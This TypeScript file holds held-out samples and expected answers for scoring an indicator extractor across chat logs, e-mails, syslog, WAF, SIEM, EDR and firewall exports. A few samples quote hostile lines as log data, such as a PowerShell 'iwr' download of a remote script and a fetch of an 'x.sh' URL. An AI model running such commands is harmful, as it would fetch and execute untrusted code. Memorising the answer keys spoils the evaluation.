import type { Sample } from "./sample";

// Not tests: the readers may err here, and `npm run evidence:score` measures how often.

type HeldOutSample = Sample & { group: string };

/** The rules for prose were corrected after these had been read for the first time. */
export const heldOutSamples: HeldOutSample[] = [
  {
    group: "prose",
    name: "a hand-over in a chat",
    text: `01:40 ana: alert fired, root console login without MFA in 111122223333 (that's the payments account)
01:42 ana: source 198.51.100.201, geo says nowhere we have people. UA was "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
01:45 ben: vpn egress is 203.0.113.1, so not us
01:47 ana: they made a key for user deploy and came back from 198.51.100.202 + 203.0.113[.]77 w/ aws-cli/2.13.5
01:50 ben: k8s node 10.4.2.17 also talks to hxxp://192[.]0[.]2[.]45:8080/x.sh
01:52 ana: opened JIRA SEC-4312, PagerDuty 123456789012, Zoom 987 6543 2109
01:55 ben: affected: us-east-1 and eu-west-1, nothing in ap-southeast-2 yet`,
    truth: {
      formats: { text: 1 },
      accounts: ["111122223333"],
      regions: ["ap-southeast-2", "eu-west-1", "us-east-1"],
      services: [],
      addresses: {
        "198.51.100.201": ["Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"],
        "198.51.100.202": [],
        "203.0.113.77": [],
        "192.0.2.45": [],
      },
    },
  },
  {
    group: "prose",
    name: "an e-mail from a provider's abuse desk",
    text: `Dear customer,
we received a report about your server 203.0.113.14 (ticket 20261122-004512345678).
Between 2026-11-21 22:14:03 UTC and 2026-11-21 23:02:59 UTC it was attacked by the following hosts:
   198.51.100.3   (AS64496)
   198.51.100.4   (AS64497)
   2001:db8:beef::c0de
Our scanner (v3.2.1.0) runs from 192.0.2.254. Please call +49 30 123456789012.`,
    truth: {
      formats: { text: 1 },
      addresses: { "198.51.100.3": [], "198.51.100.4": [], "2001:DB8:BEEF:0:0:0:0:C0DE": [] },
      earliest: "2026-11-21T22:14:03.000Z",
    },
  },
  {
    group: "prose",
    name: "a threat report in Markdown",
    text: `# Campaign notes
## 2.1.3.4 Infrastructure
- \`198.51.100[.]10\` – C2, port 443/tcp, JARM 29d29d00029d29d21c41d41d00041d
- \`198[.]51[.]100[.]11:8080\` – staging
- 192.0.2.0/28 – scanning range
- 203.0.113.5 - 203.0.113.8: exit nodes
- fe80::1, ::1 and 127.0.0.1 show up in the sample's config
SHA-256: 2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae
Mutex {8F6F0AC4-B9A1-45FD-A8CF-72F04E6BDE8F}, certificate serial 00:9a:4b:2c:11:7e:aa:31
Loader 4.10.2.1 drops Chrome 119.0.6045.105; see RFC 9110 §15.5.1.4.`,
    truth: { formats: { text: 1 }, addresses: { "198.51.100.10": [], "198.51.100.11": [] } },
  },
  {
    group: "prose",
    name: "a release note without indicators",
    text: `Release 7.4.2.1 (2026-10-01)
* openssl 3.0.13.2, log4j 2.17.1.0, glibc 2.38, kernel 6.1.0.18
* firmware: 10.2.3.4-h1 → 10.2.3.5-h2; driver=531.18.0.1; .NET 8.0.100.1
* OID 1.3.6.1, SNMP 1.3.6.1.2.1.1, schema 1.0.0.0
* invoice no. 100200300400, IMEI 490154203237518, ISBN 978316148410, order #555566667777
* PCI DSS 8.3.10.1 and 12.10.4.1, ISO clause 9.2.2.1, figure 3.1.4.1
* 11:22:33:44:55:66, 00-1A-2B-3C-4D-5E, 10:15:30.123, 1:2:3:4:5:6:7`,
    truth: { formats: { text: 1 } },
  },
  {
    group: "prose",
    name: "a list of accounts with names",
    text: `Accounts in scope
prod-eu 111122223333
prod-us 444455556666
sandbox 7777-8888-9999

Out of scope: everything else. Contact: 012345678901 (hotline)`,
    truth: { formats: { text: 1 }, accounts: ["111122223333", "444455556666", "777788889999"] },
  },
  {
    group: "prose",
    name: "notes about a role, with ARNs and a policy",
    text: `arn:aws:iam::111122223333:role/OrganizationAccountAccessRole was assumed by arn:aws:sts::999900001111:assumed-role/x/y (not ours!)
The bucket policy allows aws:SourceIp 198.51.100.128/25 only, yet arn:aws:s3:::finance-111122223333-eu-central-1 was read.
KMS key arn:aws:kms:eu-central-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab and arn:aws:secretsmanager:eu-central-1:111122223333:secret:db
https://111122223333.signin.aws.amazon.com/console`,
    truth: {
      formats: { text: 1 },
      accounts: ["111122223333"],
      regions: ["eu-central-1"],
      services: ["AWS IAM", "AWS KMS", "AWS Secrets Manager", "Amazon S3"],
    },
  },
  {
    group: "logs of other kinds",
    name: "sshd and a firewall in syslog",
    text: `Nov 22 01:12:01 bastion sshd[2311]: Failed password for invalid user admin from 198.51.100.61 port 40122 ssh2
Nov 22 01:12:04 bastion sshd[2313]: Accepted publickey for ubuntu from 198.51.100.62 port 40130 ssh2: RSA SHA256:abc
Nov 22 01:12:05 fw kernel: [UFW BLOCK] IN=eth0 OUT= MAC=0a:58:a9:fe:01:01:0a:58:a9:fe:02:02:08:00 SRC=198.51.100.63 DST=203.0.113.2 LEN=40 TTL=241 ID=54321 PROTO=TCP SPT=51000 DPT=22
Nov 22 01:12:06 bastion dhclient[900]: DHCPACK of 10.0.0.12 from 10.0.0.1
Nov 22 01:12:07 bastion systemd[1]: Started agent 3.300.1201.0.`,
    truth: { formats: { text: 1 }, addresses: { "198.51.100.61": [], "198.51.100.62": [], "198.51.100.63": [] } },
  },
  {
    group: "logs of other kinds",
    name: "an nginx error log and a stack trace",
    text: `2026/11/22 01:20:00 [error] 31#31: *1 open() "/usr/share/nginx/html/.env" failed (2: No such file or directory), client: 198.51.100.71, server: www.example.com, request: "GET /.env HTTP/1.1", host: "203.0.113.9", upstream: "http://10.0.3.4:8080/.env"
java.net.ConnectException: Connection refused: db.internal/10.0.5.5:5432
	at c.e.App.main(App.java:12) ~[app-1.2.3.4.jar:1.2.3.4]
http: TLS handshake error from 198.51.100.72:55555: EOF
caller=192.0.2.90 ua="curl/7.88.1" lvl=warn ts=2026-11-22T01:21:00.123456Z`,
    truth: {
      formats: { text: 1 },
      addresses: { "198.51.100.71": [], "198.51.100.72": [], "192.0.2.90": ["curl/7.88.1"] },
      earliest: "2026-11-22T01:21:00.123Z",
    },
  },
  {
    group: "logs of other kinds",
    name: "a WAF log in JSON",
    text: JSON.stringify({
      timestamp: 1795309200000,
      formatVersion: 1,
      webaclId: "arn:aws:wafv2:eu-west-1:111122223333:regional/webacl/main/1",
      terminatingRuleId: "Default_Action",
      action: "ALLOW",
      httpSourceName: "ALB",
      httpRequest: {
        clientIp: "198.51.100.81",
        country: "XX",
        headers: [
          { name: "Host", value: "203.0.113.9" },
          { name: "User-Agent", value: "nuclei/2.9" },
          { name: "X-Forwarded-For", value: "192.0.2.1" },
        ],
        uri: "/?next=http://192.0.2.2/",
        httpVersion: "HTTP/1.1",
        httpMethod: "GET",
      },
    }),
    truth: {
      formats: { "other JSON": 1 },
      accounts: ["111122223333"],
      regions: ["eu-west-1"],
      services: ["AWS WAF"],
      addresses: { "198.51.100.81": ["nuclei/2.9"] },
      earliest: new Date(1795309200000).toISOString(),
    },
  },
  {
    group: "logs of other kinds",
    name: "a SIEM alert in ECS",
    text: JSON.stringify({
      "@timestamp": "2026-11-22T01:00:00.000Z",
      event: { category: ["authentication"], outcome: "success", start: "2026-11-22T00:59:58.000Z" },
      source: { ip: "198.51.100.91", geo: { country_iso_code: "XX" } },
      destination: { ip: "203.0.113.91" },
      host: { ip: ["10.0.0.3", "203.0.113.92"], name: "web-1" },
      user_agent: { original: "PostmanRuntime/7.36.0" },
      cloud: { account: { id: "444455556666" }, region: "us-west-1", provider: "aws", service: { name: "signin" } },
      related: { ip: ["198.51.100.91", "203.0.113.91"] },
      agent: { version: "8.11.1.0" },
    }),
    truth: {
      formats: { "other JSON": 1 },
      accounts: ["444455556666"],
      regions: ["us-west-1"],
      services: ["AWS Sign-In"],
      addresses: { "198.51.100.91": ["PostmanRuntime/7.36.0"] },
      earliest: "2026-11-22T00:59:58.000Z",
    },
  },
  {
    group: "tables of other tools",
    name: "an analyst's spreadsheet",
    text: `No.;Date;Attacker IP;Victim IP;Browser;Comment
1;2026-11-20T10:00:00Z;198.51.100.101;203.0.113.101;Mozilla/5.0;"first; from version 2.3.4.5"
2;2026-11-20T11:00:00Z;198.51.100.102;10.0.0.9;;
3;20.11.2026 12:00;unknown;203.0.113.102;;`,
    truth: {
      formats: { "table row": 3 },
      addresses: { "198.51.100.101": ["Mozilla/5.0"], "198.51.100.102": [] },
      earliest: "2026-11-20T10:00:00.000Z",
    },
  },
  {
    group: "tables of other tools",
    name: "indicators from a feed",
    text: `indicator,indicator_type,threat,first_seen
198.51.100.111,ipv4,C2,2026-11-01 00:00:00 UTC
evil.example.com,domain,C2,2026-11-01 00:00:00 UTC
d41d8cd98f00b204e9800998ecf8427e,md5,Loader,2026-11-02 00:00:00 UTC
198.51.100.112:443,ip:port,C2,2026-11-03 00:00:00 UTC
http://198.51.100.113/a?b=192.0.2.7,url,C2,2026-11-03 00:00:00 UTC`,
    truth: {
      formats: { "table row": 5 },
      addresses: { "198.51.100.111": [], "198.51.100.112": [], "198.51.100.113": [] },
      earliest: "2026-11-01T00:00:00.000Z",
    },
  },
  {
    group: "tables of other tools",
    name: "CloudTrail from Logs Insights and the console",
    text: `@timestamp,eventName,sourceIPAddress,userIdentity.accountId,userAgent,awsRegion
2026-11-22 00:10:00.000,CreateAccessKey,198.51.100.121,111122223333,aws-cli/2.13,us-east-1
2026-11-22 00:11:00.000,CreateUser,lambda.amazonaws.com,111122223333,lambda.amazonaws.com,us-east-1`,
    truth: {
      formats: { "CloudTrail event": 2 },
      accounts: ["111122223333"],
      regions: ["us-east-1"],
      addresses: { "198.51.100.121": ["aws-cli/2.13"] },
      earliest: "2026-11-22T00:10:00.000Z",
    },
  },
];

/** Written later; no rule was changed for them. */
export const laterHeldOutSamples: HeldOutSample[] = [
  {
    group: "later prose",
    name: "an incident channel",
    text: `**22:07** GuardDuty Backdoor:EC2/C&CActivity.B on i-0a9f in acct 333344445555, peer is 45.155.205.233 tcp/6666
**22:09** that box has 172.31.20.4 / EIP 54.210.167.204
**22:15** pulled netstat: ESTAB 172.31.20.4:51512 -> 185.220.101.34:9001, also 2a03:b0c0:3:d0::1a2b:1 on 443
**22:18** runner image is Ubuntu 22.04.3.1?, agent 7.49.1.0, python 3.11.2
**22:20** @bob says office IP is 80.151.12.7, ignore it. Google DNS 8.8.8.8 as well.
**22:31** same actor hit eu-central-1 last week from 193.142.146[.]35 and 193.142.146[.]36 (UA: "Go-http-client/1.1")
**22:40** change CHG000012345678 approved by CISO, bridge +1 555 010 0199, pin 482913570246`,
    truth: {
      formats: { text: 1 },
      accounts: ["333344445555"],
      regions: ["eu-central-1"],
      addresses: {
        "45.155.205.233": [],
        "185.220.101.34": [],
        "2A03:B0C0:3:D0:0:0:1A2B:1": [],
        "193.142.146.35": ["Go-http-client/1.1"],
        "193.142.146.36": ["Go-http-client/1.1"],
      },
    },
  },
  {
    group: "later prose",
    name: "an e-mail with a quoted text table",
    text: `> Hi, these came up in Athena (account: 222211110000):
>   185.191.171.12     GetCallerIdentity   aws-cli/1.22
>   185.191.171.13     ListBuckets         aws-cli/1.22
>   10.0.7.7           PutObject           lambda
>   cloudformation.amazonaws.com  DescribeStacks
> First one at 2026-11-20T23:58:01Z.
Regards, J. (desk 4.12.1.7, tel. 0049301234567)`,
    truth: {
      formats: { text: 1 },
      accounts: ["222211110000"],
      addresses: { "185.191.171.12": [], "185.191.171.13": [] },
      earliest: "2026-11-20T23:58:01.000Z",
    },
  },
  {
    group: "later prose",
    name: "a change log that names networks",
    text: `v2.0.0.1: allow 52.94.0.0/22, drop 3.5.140.0/22
- terraform 1.6.4, provider 5.31.0.2, chart 19.0.3.1 (app 16.2.0.4)
- see NIST SP 800-61r2 3.2.4.1 and CIS 1.4.0.2
- serial 4f:3a:99:12:0b:c4:77:01, GUID 0f8fad5b-d9cb-469f-a165-70867728950e
- account names only, e.g. billing-prod; cost centre 470011223344
- IPv6 rollout: 2600:1f18::/33, gw fe80::ecee:eeff:feee:eeee, loopback ::1`,
    truth: { formats: { text: 1 } },
  },
  {
    group: "later structured",
    name: "an EDR alert in JSON",
    text: JSON.stringify({
      DetectionId: "ldt:abc:123",
      Timestamp: 1795300000,
      ComputerName: "web-02",
      LocalIP: "10.8.0.4",
      ExternalIP: "54.77.12.9",
      RemoteAddressIP4: "194.165.16.11",
      RemotePort: 4443,
      CommandLine: "powershell iwr http://194.165.16.12/p.ps1",
      AgentVersion: "7.10.1.2",
      AwsAccountId: "555500001111",
      Zone: "eu-west-2b",
      FileVersion: "10.0.19041.1",
    }),
    truth: {
      formats: { "other JSON": 1 },
      accounts: ["555500001111"],
      regions: ["eu-west-2"],
      addresses: { "194.165.16.11": [], "194.165.16.12": [] },
      earliest: new Date(1795300000000).toISOString(),
    },
  },
  {
    group: "later structured",
    name: "a firewall's CSV export",
    text: `Time,Action,Source address,Source port,Destination address,Destination port,Application,User Agent
2026-11-19T01:00:00Z,allow,91.240.118.172,50122,54.77.12.9,443,ssl,"Mozilla/5.0 zgrab/0.x"
2026-11-19T01:00:05Z,deny,91.240.118.173,50123,54.77.12.9,22,ssh,
2026-11-19T01:02:00Z,allow,10.1.1.9,40000,91.240.118.174,8443,web-browsing,`,
    truth: {
      formats: { "table row": 3 },
      addresses: { "91.240.118.172": ["Mozilla/5.0 zgrab/0.x"], "91.240.118.173": [], "91.240.118.174": [] },
      earliest: "2026-11-19T01:00:00.000Z",
    },
  },
  {
    group: "later structured",
    name: "an indicator list in YAML",
    text: `campaign: night-owl
observed: 2026-11-18T07:00:00Z
indicators:
  - type: ipv4
    value: 45.9.148.108
  - type: ipv4
    value: 45.9.148[.]109
  - type: domain
    value: cdn.example.net
aws:
  account_id: "777711112222"
  region: ap-northeast-1
tool_version: 1.9.3.1`,
    truth: {
      formats: { text: 1 },
      accounts: ["777711112222"],
      regions: ["ap-northeast-1"],
      addresses: { "45.9.148.108": [], "45.9.148.109": [] },
      earliest: "2026-11-18T07:00:00.000Z",
    },
  },
];
